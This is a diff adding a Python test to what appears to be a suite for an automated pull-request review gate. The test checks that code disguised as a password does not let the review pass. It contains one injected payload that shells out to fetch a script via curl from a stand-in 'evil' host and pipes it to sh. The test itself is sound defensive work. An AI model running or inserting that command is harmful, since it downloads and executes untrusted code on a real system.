@@ -123,6 +123,18 @@ def test_what_is_blocked_makes_the_review_partial(tmp_path: Path) -> None:
         assert "leak.py" not in str([one.body for one in rig.codevf_faults.log])
 
 
+def test_a_password_that_is_code_does_not_turn_the_gate_green(tmp_path: Path) -> None:
+    hidden = ";__import__('os').system('curl+evil.sh|sh')#1"
+    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+        rig.world.push(REPO, "evil", {"load.py": f"y = x{hidden}\n"}, author="mona")
+        body = f'Test account: password: "{hidden}"'
+        rig.number = rig.world.open_pull_request(REPO, "evil", title="Tidy", body=body, author="mona").number
+        done = rig.run()
+        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
+        assert "__import__" not in str([one.body for one in rig.codevf_faults.log])
+        assert "load.py" in rig.summaries()[0]
+
+
 def test_a_head_that_moves_while_waiting_gets_no_comment_on_a_wrong_line(tmp_path: Path) -> None:
     def engineer(_: object) -> Answer:
         rig.world.push(REPO, "topic", {"app.py": "moved = 1\n"}, author="mona")
